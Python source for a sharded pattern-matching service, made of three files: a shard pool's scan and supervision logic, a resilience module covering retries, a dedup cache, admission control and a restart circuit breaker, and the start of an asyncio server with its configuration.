        Returns ``(outcomes, failure)``: a non-None ``failure`` is a
        whole-pool error (worker death, allocation) for the caller's
        supervisor / degradation machinery, and ``outcomes`` must be
        discarded."""
        watchdog_at = (
            deadline_at + max(deadline, _WATCHDOG_MIN_GRACE)
            if deadline_at is not None and deadline is not None
            else None
        )
        outcomes: list = []
        watchdog_fired = False
        for index, future in enumerate(futures):
            try:
                if watchdog_at is None:
                    outcomes.append(future.result())
                else:
                    remaining = max(0.0, watchdog_at - time.perf_counter())
                    outcomes.append(future.result(timeout=remaining))
            except FuturesTimeout:
                self.supervisor.record_hang()
                self._count(
                    "serve_worker_hangs_total",
                    "hung shard workers detected by the scan watchdog",
                )
                if not watchdog_fired:
                    watchdog_fired = True
                    self._kill_stuck_workers()
                outcomes.append(
                    self._rescue_job(jobs[index], data, deadline, collect_stats, mapping_mode)
                )
            except CancelledError:
                # queued behind the wedge; never ran before the kill
                outcomes.append(
                    self._rescue_job(jobs[index], data, deadline, collect_stats, mapping_mode)
                )
            except (AllocationFailed, BrokenProcessPool) as exc:
                if watchdog_fired:
                    # collateral of the watchdog's kill, not a new failure
                    outcomes.append(
                        self._rescue_job(jobs[index], data, deadline, collect_stats, mapping_mode)
                    )
                else:
                    return outcomes, exc
        return outcomes, None

    def heartbeat(self, timeout: float = 2.0) -> bool:
        """One supervision probe: a trivial job must come back within
        ``timeout`` seconds.  A dead executor or a wedged one counts a
        failure with the supervisor and kills/drops the workers (rebuilt
        on next use); while the breaker is open the probe reports False
        without poking the crash loop."""
        if self._retired:
            return False
        if self.supervisor.breaker_open():
            self.last_heartbeat_ok = False
            return False
        try:
            future = self._ensure_executor().submit(_worker_heartbeat)
            future.result(timeout=timeout)
        except (Exception, CancelledError):
            self.last_heartbeat_ok = False
            action = self.supervisor.on_failure()
            self._kill_stuck_workers()
            if action.restart:
                self._count(
                    "serve_supervisor_restarts_total",
                    "worker restarts ordered by the shard supervisor",
                )
            return False
        self.supervisor.record_success()
        self.last_heartbeat_ok = True
        return True

    # -- scanning ----------------------------------------------------------

    def scan(
        self,
        payload: bytes | str,
        deadline: Optional[float] = None,
        single_match: bool = False,
        collect_stats: bool = True,
        trace_id: Optional[str] = None,
        parent: Optional[obs.Span] = None,
    ) -> ShardScanResult:
        """Scan one payload across the pool; exact single-pass semantics.

        ``deadline`` is wall-clock seconds for the whole scan.  Shards
        that exceed it surface their honest partial results and the scan
        is flagged ``partial`` — the answer is a sound under-
        approximation, never silently wrong.

        ``trace_id``/``parent`` stitch this scan (and its per-shard
        worker spans, shipped back from worker processes in process
        mode) into the caller's request trace.
        """
        data = payload.encode("latin-1") if isinstance(payload, str) else payload
        mapping_mode = self.scan_strategy == "sfa"
        if mapping_mode:
            # zero lead bytes: mappings make workers truly independent
            jobs = plan_shards(len(data), self.num_shards, 0)
        elif self.overlap is None:
            # explicit overlap strategy on an unbounded ruleset: the
            # legacy sequential fallback (still governed, one worker)
            jobs = [ShardJob(0, 0, len(data))]
        else:
            jobs = plan_shards(len(data), self.num_shards, self.overlap)
        deadline_at = time.perf_counter() + deadline if deadline is not None else None

        with obs.span(
            "serve.shard_scan",
            parent=parent,
            trace_id=trace_id,
            shards=len(jobs),
            bytes=len(data),
            backend=self.backend,
            mode=self.mode,
            strategy=self.scan_strategy,
        ) as span:
            registry = obs.get_registry()
            scan_parent = span if isinstance(span, obs.Span) else None
            # process workers only buffer + ship spans when someone can
            # adopt them: a trace id is set and a tracer is active
            trace_request = (
                {"trace_id": trace_id}
                if trace_id is not None and obs.get_tracer() is not None
                else None
            )
            inflight = (
                registry.gauge(
                    "serve_shard_inflight_jobs",
                    help="shard jobs submitted and not yet finished",
                )
                if registry is not None
                else None
            )
            while True:
                if self.supervisor.breaker_open():
                    # restart storm: stop feeding the crash loop — scan
                    # every job inline on the dispatcher (still exact;
                    # the breaker cooldown gates the next worker probe)
                    self._count(
                        "serve_breaker_inline_scans_total",
                        "scans served inline while the worker breaker was open",
                    )
                    outcomes = [
                        self._rescue_job(job, data, deadline, collect_stats, mapping_mode)
                        for job in jobs
                    ]
                    break
                executor = self._ensure_executor()
                futures = []
                submit_failure: Optional[BaseException] = None
                try:
                    for index, job in enumerate(jobs):
                        segment = data[job.segment_slice]
                        if self.mode == "thread":
                            thread_scan = (
                                self._thread_scan_mapping if mapping_mode
                                else self._thread_scan
                            )
                            future = executor.submit(
                                thread_scan, segment, deadline_at, collect_stats,
                                index, trace_id, scan_parent,
                            )
                        else:
                            process_scan = (
                                _process_scan_mapping if mapping_mode else _process_scan
                            )
                            future = executor.submit(
                                process_scan,
                                (segment, deadline_at, collect_stats, index, trace_request),
                            )
                        if registry is not None:
                            busy = registry.gauge(
                                f"serve_shard_{index}_busy",
                                help="jobs in flight on this shard slot",
                            )
                            busy.inc()
                            inflight.inc()
                            future.add_done_callback(
                                lambda _f, g=busy, t=inflight: (g.dec(), t.dec())
                            )
                        futures.append(future)
                except (BrokenProcessPool, RuntimeError) as exc:
                    # the executor broke (workers died between scans) or
                    # was torn down under us (watchdog/heartbeat kill):
                    # submit raises synchronously — same failure machinery
                    # as a mid-scan death, not an internal error
                    for future in futures:
                        future.cancel()
                    submit_failure = exc
                if submit_failure is not None:
                    outcomes, failure = [], submit_failure
                else:
                    outcomes, failure = self._collect_outcomes(
                        futures, jobs, data, deadline, deadline_at,
                        collect_stats, mapping_mode,
                    )
                if failure is None:
                    self.supervisor.record_success()
                    break
                if not isinstance(failure, AllocationFailed):
                    # a worker death may be transient (OOM-kill, segfault,
                    # drill): the supervisor restarts at the *same*
                    # backend under backoff before any ladder step
                    action = self.supervisor.on_failure()
                    if action.restart:
                        self._count(
                            "serve_supervisor_restarts_total",
                            "worker restarts ordered by the shard supervisor",
                        )
                        self._rebuild_executor()
                        if action.delay:
                            time.sleep(action.delay)
                        continue
                    if action.breaker_open:
                        continue  # the loop head takes the inline path
                # persistent failure (or restart budget spent): next rung
                if self._recover_workers(failure):
                    continue
                if isinstance(failure, ReproError):
                    raise failure
                raise AllocationFailed(
                    f"shard workers failed with the backend ladder exhausted: {failure}"
                ) from failure

            matches: set[tuple[int, int]] = set()
            totals = ExecutionStats()
            timed_out: list[int] = []
            # mapping reduce state: per-MFSA entry activation, threaded
            # through the shards in payload order (workers may well have
            # finished in any other order — composition doesn't care)
            scanners = self._ensure_scanners() if mapping_mode else []
            activations: list[dict] = [{} for _ in scanners]
            for index, (job, outcome) in enumerate(zip(jobs, outcomes)):
                job_payload, job_stats, job_timed_out, span_rows = outcome
                if span_rows:
                    tracer = obs.get_tracer()
                    if tracer is not None:
                        tracer.adopt_spans(span_rows, parent=scan_parent)
                if mapping_mode:
                    job_mappings, salvage = job_payload
                    for slot, scanner in enumerate(scanners):
                        mapping = job_mappings[slot]
                        if mapping is None:
                            # deadline hit: const matches were salvaged;
                            # continue from the empty activation (sound
                            # under-approximation — see module docstring)
                            activations[slot] = {}
                            continue
                        if mapping.scanner is None:  # crossed a process
                            mapping = scanner.attach(mapping)
                        found, activations[slot] = scanner.apply(
                            mapping, activations[slot], base=job.start
                        )
                        matches |= found
                    matches |= {(rule, end + job.start) for rule, end in salvage}
                else:
                    matches |= rebase_matches(job_payload, job)
                totals.merge(job_stats)
                if job_timed_out:
                    timed_out.append(index)
                if registry is not None and job_stats.wall_seconds:
                    registry.histogram(
                        "serve_shard_scan_seconds",
                        bounds=_LATENCY_BUCKETS,
                        help="per-shard scan wall seconds",
                    ).observe(job_stats.wall_seconds)
                    registry.histogram(
                        "serve_shard_throughput_bytes_per_sec",
                        bounds=_THROUGHPUT_BUCKETS,
                        help="per-shard scan throughput",
                    ).observe(job_stats.chars_processed / job_stats.wall_seconds)

            # ε-accepting rules match at every offset 0..len(data); the
            # engines enumerate them per segment, which scales with the
            # payload — keep the result compact by stripping them from
            # the enumerated set and naming the rules instead.
            all_offsets_rules: list[int] = []
            if self._empty_matching_rules:
                if single_match:
                    # their first match is the ε at offset 0
                    matches.update((rule, 0) for rule in self._empty_matching_rules)
                else:
                    everywhere = set(self._empty_matching_rules)
                    matches = {m for m in matches if m[0] not in everywhere}
                    all_offsets_rules = sorted(everywhere)

            if single_match:
                firsts: dict[int, int] = {}
                for rule, end in matches:
                    if rule not in firsts or end < firsts[rule]:
                        firsts[rule] = end
                matches = {(rule, end) for rule, end in firsts.items()}
            totals.match_count = (
                len(matches) + len(all_offsets_rules) * (len(data) + 1)
            )
            span.set(
                matches=totals.match_count,
                partial=bool(timed_out),
                backend=self.backend,
            )

        return ShardScanResult(
            matches=matches,
            stats=totals,
            backend=self.backend,
            shards=len(jobs),
            payload_len=len(data),
            all_offsets_rules=all_offsets_rules,
            partial=bool(timed_out),
            timed_out_shards=timed_out,
            degradations=list(self.degradations),
            strategy=self.scan_strategy,
        )

    # -- lifecycle ---------------------------------------------------------

    def acquire(self) -> None:
        """Pin the pool for one in-flight scan.  Hot reload swaps the
        service's pool reference and closes the old pool; the refcount
        keeps the old executor alive until every borrowed scan returns.
        Raises :class:`UsageError` once the pool is retired — callers
        re-read the (swapped) pool reference and try again."""
        with self._lock:
            if self._retired:
                raise UsageError("shard pool is closed")
            self._refs += 1

    def release(self) -> None:
        with self._lock:
            self._refs -= 1
            retire = self._retired and self._refs <= 0
        if retire:
            self._shutdown_executor()

    def close(self) -> None:
        """Retire the pool: new :meth:`acquire` calls fail immediately;
        the executor shuts down once the last in-flight scan releases
        (synchronously when idle — the common direct-use case)."""
        with self._lock:
            self._retired = True
            idle = self._refs <= 0
        if idle:
            self._shutdown_executor()

    def _shutdown_executor(self) -> None:
        with self._lock:
            executor, self._executor = self._executor, None
        if executor is not None:
            executor.shutdown(wait=True)

    def __enter__(self) -> "ShardPool":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


#: latency buckets: 100 µs … ~13 s, exponential
_LATENCY_BUCKETS = tuple(0.0001 * (2 ** i) for i in range(18))
#: throughput buckets: 1 KiB/s … 1 GiB/s, ×4 steps
_THROUGHPUT_BUCKETS = tuple(1024.0 * (4 ** i) for i in range(11))
