"""Self-healing primitives for the serve stack.

PRs 4–6 gave the service budgets, degradation and observability; this
module gives it *recovery*.  Four cooperating pieces, each usable on its
own (docs/robustness.md, "serve resilience"):

* :class:`RetryPolicy` — client-side retry schedule: exponential
  backoff with **full jitter** (each delay is uniform on ``[0, cap]``,
  the AWS-style decorrelated form that avoids retry synchronization
  across a client fleet), a bounded attempt count, and a per-operation
  deadline that is independent of both the connect timeout and any one
  attempt's socket timeout.
* :class:`DedupWindow` — the server-side half of **idempotent retries**:
  a retried request carries the same client-minted ``request_key``; if
  the first attempt already completed (the reply was lost, not the
  work), the stored response is replayed instead of rescanned.  Bounded
  by entry count (LRU) and age (TTL), so an adversarial client cannot
  grow it.
* :class:`AdmissionController` — CoDel-style overload shedding: the
  controller watches *measured* queue wait (``serve_queue_wait_seconds``
  observations) and starts rejecting — with a ``Retry-After`` hint —
  when the **minimum** wait over a sliding interval exceeds the target.
  Using the window minimum (not mean) distinguishes a standing queue
  from a harmless burst, exactly as CoDel does for packet queues.
* :class:`ShardSupervisor` — restart bookkeeping for pool workers: dead
  or hung workers are restarted under exponential backoff, and a
  restart **storm** (too many restarts inside a window) opens a circuit
  breaker so the pool stops feeding a crash loop and re-plans chunks
  onto healthy capacity (the dispatcher-side inline rescue) until the
  cooldown passes.

Everything here is plain state + arithmetic — no sockets, no threads —
so each piece is unit-testable without a running service.
"""

from __future__ import annotations

import random
import time
from collections import OrderedDict, deque
from dataclasses import dataclass
from threading import Lock
from typing import Any, Optional

from repro.guard.errors import UsageError

__all__ = [
    "RetryPolicy",
    "DedupWindow",
    "AdmissionController",
    "ShardSupervisor",
]


# ---------------------------------------------------------------------------
# RetryPolicy — the client half
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class RetryPolicy:
    """Exponential backoff + full jitter for :class:`~repro.serve.client.
    MatchClient` operations.

    ``max_attempts`` counts the first try: ``max_attempts=3`` means one
    request plus up to two retries.  ``op_deadline`` bounds the whole
    operation (all attempts plus their backoff sleeps) in wall-clock
    seconds; ``None`` leaves only the attempt count as the bound.  A
    retried request is only safe when it is idempotent — the client
    sends a stable ``request_key`` so a retry of work that already
    completed server-side is answered from the :class:`DedupWindow`
    instead of being scanned twice.
    """

    #: total tries, including the first (1 = never retry)
    max_attempts: int = 3
    #: first backoff cap in seconds; attempt ``n`` caps at
    #: ``base_delay * multiplier**n``
    base_delay: float = 0.05
    #: ceiling on any single backoff sleep
    max_delay: float = 2.0
    multiplier: float = 2.0
    #: wall-clock budget for the whole operation (None = attempts only)
    op_deadline: Optional[float] = None
    #: re-dial the connection before a retry (a lost connection is the
    #: common failure this policy exists for)
    reconnect: bool = True
    #: also retry 429-style rejections (honouring the server's
    #: ``retry_after_ms`` hint when present)
    retry_rejected: bool = False

    def __post_init__(self) -> None:
        if self.max_attempts < 1:
            raise UsageError(f"max_attempts must be >= 1 (got {self.max_attempts})")
        if self.base_delay < 0 or self.max_delay < 0:
            raise UsageError("backoff delays must be non-negative")
        if self.multiplier < 1.0:
            raise UsageError("multiplier must be >= 1")
        if self.op_deadline is not None and self.op_deadline <= 0:
            raise UsageError("op_deadline must be positive")

    def delay(self, attempt: int, rng: Optional[random.Random] = None) -> float:
        """The backoff sleep before retry number ``attempt`` (0-based):
        uniform on ``[0, min(max_delay, base_delay * multiplier**attempt)]``.
        """
        cap = min(self.max_delay, self.base_delay * (self.multiplier ** attempt))
        return (rng or random).uniform(0.0, cap)

    @classmethod
    def none(cls) -> "RetryPolicy":
        """The no-retry policy (one attempt, fail fast)."""
        return cls(max_attempts=1)


# ---------------------------------------------------------------------------
# DedupWindow — the server half of idempotent retries
# ---------------------------------------------------------------------------


class DedupWindow:
    """Short-lived ``request_key -> response document`` replay cache.

    Completed match responses are remembered for ``ttl`` seconds (and at
    most ``max_entries`` of them, LRU-evicted) so a client retrying a
    request whose *reply* was lost gets the stored answer instead of a
    second scan.  Thread-safe: the asyncio dispatcher writes from the
    event loop while ``stats``-op readers may snapshot from anywhere.
    """

    def __init__(self, ttl: float = 30.0, max_entries: int = 1024) -> None:
        if ttl <= 0:
            raise UsageError(f"dedup ttl must be positive (got {ttl})")
        if max_entries < 1:
            raise UsageError(f"dedup max_entries must be >= 1 (got {max_entries})")
        self.ttl = ttl
        self.max_entries = max_entries
        self.hits = 0
        self._lock = Lock()
        self._entries: OrderedDict[str, tuple[float, dict]] = OrderedDict()

    def __len__(self) -> int:
        with self._lock:
            return len(self._entries)

    def _prune(self, now: float) -> None:
        while self._entries:
            key, (stored_at, _) = next(iter(self._entries.items()))
            if now - stored_at <= self.ttl:
                break
            self._entries.popitem(last=False)

    def put(self, key: str, document: dict) -> None:
        """Remember a completed response for ``key``."""
        now = time.monotonic()
        with self._lock:
            self._entries.pop(key, None)
            self._entries[key] = (now, document)
            self._prune(now)
            while len(self._entries) > self.max_entries:
                self._entries.popitem(last=False)

    def get(self, key: str) -> Optional[dict]:
        """The stored response for ``key``, or None when absent/expired.
        A hit refreshes LRU order (retry storms keep hot keys alive)."""
        now = time.monotonic()
        with self._lock:
            self._prune(now)
            entry = self._entries.get(key)
            if entry is None:
                return None
            self._entries.move_to_end(key)
            self.hits += 1
            return entry[1]


# ---------------------------------------------------------------------------
# AdmissionController — CoDel-style early shedding
# ---------------------------------------------------------------------------


class AdmissionController:
    """Shed load from *measured* queue wait, before the queue fills.

    A bounded queue alone converts overload into a latency cliff: every
    accepted request waits nearly the full queue, and only the very last
    ones are rejected.  CoDel's insight is to watch the **minimum**
    delay over a sliding interval — a standing queue keeps even its
    luckiest request waiting, while a burst lets some request through
    fast.  When ``min(queue_wait over window) > target`` the controller
    sheds new arrivals with a ``Retry-After`` hint sized to the current
    wait, so clients back off instead of piling on.
    """

    def __init__(self, target: float = 0.05, window: float = 1.0) -> None:
        if target <= 0:
            raise UsageError(f"admission target must be positive (got {target})")
        if window <= 0:
            raise UsageError(f"admission window must be positive (got {window})")
        self.target = target
        self.window = window
        self.shed_total = 0
        self._lock = Lock()
        self._waits: deque[tuple[float, float]] = deque()

    def observe(self, wait_seconds: float) -> None:
        """Record one measured queue wait (called at dispatch time)."""
        now = time.monotonic()
        with self._lock:
            self._waits.append((now, wait_seconds))
            self._expire(now)

    def _expire(self, now: float) -> None:
        horizon = now - self.window
        while self._waits and self._waits[0][0] < horizon:
            self._waits.popleft()

    def min_wait(self) -> Optional[float]:
        """The minimum queue wait observed inside the window (None when
        no dispatch has happened recently — an idle service admits)."""
        with self._lock:
            self._expire(time.monotonic())
            if not self._waits:
                return None
            return min(wait for _, wait in self._waits)

    def should_shed(self) -> bool:
        """True when the service is in standing overload."""
        floor = self.min_wait()
        return floor is not None and floor > self.target

    def shed(self) -> float:
        """Record one shed; returns the ``Retry-After`` hint in seconds
        (the current wait floor, at least one target's worth)."""
        floor = self.min_wait() or self.target
        with self._lock:
            self.shed_total += 1
        return max(self.target, floor)


# ---------------------------------------------------------------------------
# ShardSupervisor — restart backoff + storm circuit breaker
# ---------------------------------------------------------------------------


@dataclass
class SupervisorAction:
    """What the pool should do about a worker failure."""

    #: rebuild the executor and retry (after sleeping ``delay``)
    restart: bool
    #: backoff sleep before the restart (0 when not restarting)
    delay: float = 0.0
    #: the breaker opened on this failure (or was already open)
    breaker_open: bool = False


class ShardSupervisor:
    """Restart bookkeeping for a :class:`~repro.serve.shards.ShardPool`.

    The pool reports worker failures (a dead process, a hung scan, a
    failed heartbeat); the supervisor answers with a
    :class:`SupervisorAction`: restart under exponential backoff, or —
    when restarts storm — open the circuit breaker for ``cooldown``
    seconds.  While the breaker is open the pool must not rebuild
    process workers for scans; it re-plans chunks onto healthy capacity
    (dispatcher-side inline scanning) instead, and probes the executor
    again only after the cooldown.

    ``max_restarts`` consecutive failures *within one recovery attempt
    sequence* also stops the restart loop (the failure is then treated
    as persistent — e.g. an initializer that always dies — and handed to
    the caller's next rung: the backend degradation ladder).
    """

    def __init__(
        self,
        max_restarts: int = 2,
        backoff_base: float = 0.05,
        backoff_max: float = 1.0,
        storm_threshold: int = 4,
        storm_window: float = 30.0,
        cooldown: float = 5.0,
    ) -> None:
        if max_restarts < 0:
            raise UsageError("max_restarts must be >= 0")
        if storm_threshold < 1:
            raise UsageError("storm_threshold must be >= 1")
        if storm_window <= 0 or cooldown <= 0:
            raise UsageError("storm_window and cooldown must be positive")
        self.max_restarts = max_restarts
        self.backoff_base = backoff_base
        self.backoff_max = backoff_max
        self.storm_threshold = storm_threshold
        self.storm_window = storm_window
        self.cooldown = cooldown
        #: worker restarts over the supervisor's lifetime
        self.restarts_total = 0
        #: hung-worker kills over the supervisor's lifetime
        self.hangs_total = 0
        #: times the breaker opened
        self.breaker_opens_total = 0
        self._lock = Lock()
        self._consecutive = 0
        self._recent: deque[float] = deque()
        self._open_until = 0.0

    # -- breaker state ----------------------------------------------------

    def breaker_open(self) -> bool:
        with self._lock:
            return time.monotonic() < self._open_until

    def breaker_remaining(self) -> float:
        """Seconds until the breaker closes (0 when closed)."""
        with self._lock:
            return max(0.0, self._open_until - time.monotonic())

    # -- failure / success reporting --------------------------------------

    def record_hang(self) -> None:
        """A hung worker was detected (and, in process mode, killed)."""
        with self._lock:
            self.hangs_total += 1

    def record_success(self) -> None:
        """A scan (or heartbeat) completed: the current failure sequence
        is over.  Does not close an open breaker early — the cooldown
        exists to let a crash loop actually drain."""
        with self._lock:
            self._consecutive = 0

    def on_failure(self, rng: Optional[random.Random] = None) -> SupervisorAction:
        """Decide the response to one worker failure.

        Returns restart-with-backoff while the consecutive count and the
        storm budget allow it; otherwise opens (or reports the already
        open) breaker.
        """
        now = time.monotonic()
        with self._lock:
            if now < self._open_until:
                return SupervisorAction(restart=False, breaker_open=True)
            self._consecutive += 1
            horizon = now - self.storm_window
            while self._recent and self._recent[0] < horizon:
                self._recent.popleft()
            storming = len(self._recent) + 1 > self.storm_threshold
            if storming or self._consecutive > self.max_restarts:
                if storming:
                    self._open_until = now + self.cooldown
                    self.breaker_opens_total += 1
                self._consecutive = 0
                return SupervisorAction(restart=False, breaker_open=storming)
            self._recent.append(now)
            self.restarts_total += 1
            cap = min(
                self.backoff_max,
                self.backoff_base * (2.0 ** (self._consecutive - 1)),
            )
            return SupervisorAction(
                restart=True, delay=(rng or random).uniform(0.0, cap)
            )

    # -- introspection ----------------------------------------------------

    def snapshot(self) -> dict[str, Any]:
        with self._lock:
            return {
                "restarts_total": self.restarts_total,
                "hangs_total": self.hangs_total,
                "breaker_opens_total": self.breaker_opens_total,
                "breaker_open": time.monotonic() < self._open_until,
                "breaker_remaining_s": max(0.0, self._open_until - time.monotonic()),
            }
