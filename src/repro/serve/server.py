"""The asyncio front door: batching, backpressure, deadlines, obs.

The resident matching service (Figs. 9–10 at service scale): one
process accepts length-prefixed JSON requests over TCP or a UNIX
socket, coalesces them into batches, and fans each payload out over the
:class:`~repro.serve.shards.ShardPool`.  The design goals, in order:

1. **Never hang.**  Every match request runs under a per-request
   :class:`~repro.guard.budget.Budget` deadline (client-supplied
   ``deadline_ms`` or the configured default); a wedged shard surfaces
   the honest partial result with a 206-style status.
2. **Reject early, explicitly.**  The request queue is bounded
   (``queue_depth``); when it is full the request is answered *now*
   with a 429-style rejection instead of queueing into a latency cliff.
   Shutdown drains: queued work is answered (bounded window) and
   anything left gets an explicit shutting-down rejection, never a
   silently closed socket.  The dispatcher guards every per-request
   path — a reset client, an unframeable response, or a non-ReproError
   worker crash costs that one request a 500, not the service — and a
   done-callback restarts the loop if a bug escapes anyway.
3. **Batch the front, shard the back.**  The dispatcher drains up to
   ``batch_max`` queued requests per cycle and scans them concurrently
   — shard workers interleave across the batch, so one giant payload
   does not serialize the queue behind it.
4. **Observable.**  Queue-depth gauge, request/reject/partial counters,
   batch-size and queue-wait histograms, per-shard throughput (via the
   pool) — all on the active :mod:`repro.obs` registry, exportable with
   the usual ``--metrics-out``.
5. **Self-healing.**  Worker supervision rides in the pool (restart
   backoff, hung-scan watchdog, breaker — :mod:`repro.serve.shards`);
   the service adds the request-plane half: a :class:`~repro.serve.
   resilience.DedupWindow` answers idempotent retries without a second
   scan, an optional :class:`~repro.serve.resilience.
   AdmissionController` sheds standing overload early with Retry-After
   hints, a periodic worker heartbeat catches dead executors *between*
   requests, the ``health`` op separates liveness from readiness, and
   the ``reload`` op compiles a new ruleset off the loop and atomically
   swaps the shard pool under live traffic (in-flight scans pin the old
   pool via refcount; zero requests dropped).

:class:`ServerThread` wraps the event loop in a daemon thread for
synchronous callers (tests, benchmarks, the CLI's smoke path).
"""

from __future__ import annotations

import asyncio
import logging
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Awaitable, Callable, Optional, Sequence

import repro.obs as obs
from repro.engine.imfant import DEFAULT_DEADLINE_STRIDE
from repro.engine.lazy import DEFAULT_CACHE_SIZE
from repro.guard import faultinject
from repro.guard.budget import Budget
from repro.guard.errors import DeadlineExceeded, ReproError, UsageError
from repro.serve.artifacts import Artifact, ArtifactStore
from repro.serve.protocol import (
    STATUS_CODES,
    FrameError,
    MatchRequest,
    decode_body,
    encode_frame,
    error_response,
    frame_length,
    match_response,
)
from repro.serve.resilience import AdmissionController, DedupWindow, ShardSupervisor
from repro.serve.shards import ShardPool

__all__ = ["ServeConfig", "MatchService", "MatchServer", "ServerThread"]

_log = logging.getLogger("repro.serve")


@dataclass(frozen=True)
class ServeConfig:
    """Sizing and behaviour knobs for one service instance."""

    #: shard-pool workers per payload
    shards: int = 2
    #: max requests coalesced into one dispatch cycle
    batch_max: int = 8
    #: bounded request-queue depth; a full queue rejects (429-style)
    queue_depth: int = 64
    backend: str = "lazy"
    #: "thread" (in-process workers) or "process" (forked workers that
    #: load the artifact from disk)
    mode: str = "thread"
    #: default per-request wall-clock deadline in seconds (None = none);
    #: a request's ``deadline_ms`` overrides it
    default_deadline: Optional[float] = None
    lazy_cache_size: int = DEFAULT_CACHE_SIZE
    lazy_eviction: str = "flush"
    #: scan positions between deadline checks inside the engines
    deadline_stride: int = DEFAULT_DEADLINE_STRIDE
    #: parallelism contract for the shard pool: "auto" keeps overlap
    #: chunking for width-bounded rulesets and goes mapping-parallel
    #: (zero overlap bytes, composable SFA mappings) for unbounded ones;
    #: "sfa"/"overlap" force one — see docs/parallelism.md
    scan_strategy: str = "auto"
    #: honour the protocol's ``shutdown`` op (CLI and tests; a hardened
    #: deployment would front this with real auth)
    allow_shutdown: bool = True
    #: honour the protocol's ``reload`` op (needs an artifact store on
    #: the service to compile the incoming patterns)
    allow_reload: bool = True
    #: CoDel-style admission target in seconds: shed new requests while
    #: the *minimum* queue wait over ``admission_window`` stays above
    #: this (None = admission control off)
    admission_target: Optional[float] = None
    #: sliding interval for the admission controller's wait floor
    admission_window: float = 1.0
    #: how long a completed response stays replayable for an idempotent
    #: retry carrying the same ``request_key``
    dedup_ttl: float = 30.0
    #: replay-window size bound (LRU beyond it)
    dedup_entries: int = 1024
    #: period of the background worker heartbeat probe (None = off);
    #: catches dead/wedged executors between requests instead of on the
    #: first victim request
    heartbeat_interval: Optional[float] = None
    #: how long one heartbeat probe may take before the worker counts as
    #: hung
    heartbeat_timeout: float = 2.0
    #: enable a service-owned metrics registry when none is active, so a
    #: bare ``repro serve`` still answers the ``stats`` op with
    #: percentiles (an already-active registry is reused, never replaced)
    metrics: bool = True
    #: record per-request span trees (queue-wait / scan / frame phases)
    #: and honour the protocol's ``ship_spans`` flag; enables a
    #: service-owned tracer when none is active
    trace_requests: bool = False
    #: finished spans older than this are pruned from a *service-owned*
    #: tracer after each batch (bounds memory on long-running servers)
    trace_max_age: float = 60.0

    def __post_init__(self) -> None:
        if self.batch_max < 1:
            raise UsageError(f"batch_max must be >= 1 (got {self.batch_max})")
        if self.queue_depth < 1:
            raise UsageError(f"queue_depth must be >= 1 (got {self.queue_depth})")
        if self.default_deadline is not None and self.default_deadline <= 0:
            raise UsageError("default_deadline must be positive")
        if self.admission_target is not None and self.admission_target <= 0:
            raise UsageError("admission_target must be positive")
        if self.heartbeat_interval is not None and self.heartbeat_interval <= 0:
            raise UsageError("heartbeat_interval must be positive")


class _Metrics:
    """Lazily-bound obs instruments (no-ops when obs is disabled)."""

    def __init__(self) -> None:
        pass

    @property
    def registry(self):
        return obs.get_registry()

    def count(self, name: str, help: str, amount: float = 1.0) -> None:
        registry = self.registry
        if registry is not None:
            registry.counter(name, help=help).inc(amount)

    def gauge(self, name: str, help: str, value: float) -> None:
        registry = self.registry
        if registry is not None:
            registry.gauge(name, help=help).set(value)

    def observe(self, name: str, help: str, value: float, bounds=None) -> None:
        registry = self.registry
        if registry is not None:
            registry.histogram(name, bounds=bounds, help=help).observe(value)


@dataclass
class _Pending:
    """One queued match request plus its reply channel and budget meter."""

    request: MatchRequest
    reply: Callable[[dict[str, Any]], Awaitable[None]]
    meter: Any  # BudgetMeter | None
    enqueued_at: float
    #: the request's root span (NOOP_SPAN when tracing is off); children
    #: attach via explicit ``parent=`` — requests interleave on the event
    #: loop, so thread-local span stacks would mis-parent them
    span: Any = obs.NOOP_SPAN
    trace_id: Optional[str] = None


class MatchService:
    """The queue + dispatcher + shard pool behind the socket front end."""

    def __init__(
        self,
        artifact: Artifact,
        config: ServeConfig | None = None,
        store: Optional[ArtifactStore] = None,
    ) -> None:
        self.artifact = artifact
        self.config = config or ServeConfig()
        #: compiles ``reload`` rulesets; without one, reload is refused
        self.store = store
        #: one supervisor for the service's lifetime — restart/breaker
        #: history survives hot reloads (worker health is orthogonal to
        #: which ruleset the workers run)
        self.supervisor = ShardSupervisor()
        self.pool = self._build_pool(artifact)
        self.dedup = DedupWindow(
            ttl=self.config.dedup_ttl, max_entries=self.config.dedup_entries
        )
        self.admission: Optional[AdmissionController] = (
            AdmissionController(
                target=self.config.admission_target,
                window=self.config.admission_window,
            )
            if self.config.admission_target is not None
            else None
        )
        self.metrics = _Metrics()
        self.requests_handled = 0
        self.requests_rejected = 0
        self.requests_partial = 0
        self.requests_deduped = 0
        self.batches = 0
        self.reload_swaps = 0
        self._queue: Optional[asyncio.Queue] = None
        self._dispatcher: Optional[asyncio.Task] = None
        self._heartbeat_task: Optional[asyncio.Task] = None
        self._reload_lock: Optional[asyncio.Lock] = None
        self._inflight = 0
        self._running = False
        self._draining = False
        self._owns_registry = False
        self._owns_tracer = False

    def _build_pool(self, artifact: Artifact) -> ShardPool:
        return ShardPool(
            artifact,
            num_shards=self.config.shards,
            backend=self.config.backend,
            mode=self.config.mode,
            lazy_cache_size=self.config.lazy_cache_size,
            lazy_eviction=self.config.lazy_eviction,
            deadline_stride=self.config.deadline_stride,
            scan_strategy=self.config.scan_strategy,
            supervisor=self.supervisor,
        )

    def _acquire_pool(self) -> ShardPool:
        """Pin the current pool for one scan.  A hot reload can retire
        the pool between reading the reference and pinning it — re-read
        until the pin lands (the swap is a single attribute write, so
        this loop runs at most twice in practice)."""
        while True:
            pool = self.pool
            try:
                pool.acquire()
                return pool
            except UsageError:
                continue

    # -- lifecycle ---------------------------------------------------------

    async def start(self) -> None:
        # service-owned observability: turn on what the config asks for
        # and nothing is already providing, and own its lifecycle (an
        # ambient tracer/registry — tests, --trace-out — is reused as-is)
        if self.config.metrics and obs.get_registry() is None:
            from repro.obs import metrics as _obs_metrics

            _obs_metrics.enable()
            self._owns_registry = True
        if self.config.trace_requests and obs.get_tracer() is None:
            from repro.obs import spans as _obs_spans

            _obs_spans.enable()
            self._owns_tracer = True
        self._queue = asyncio.Queue(maxsize=self.config.queue_depth)
        self._reload_lock = asyncio.Lock()
        self._running = True
        self._draining = False
        self._spawn_dispatcher()
        if self.config.heartbeat_interval is not None:
            self._heartbeat_task = asyncio.create_task(self._heartbeat_loop())

    def _spawn_dispatcher(self) -> None:
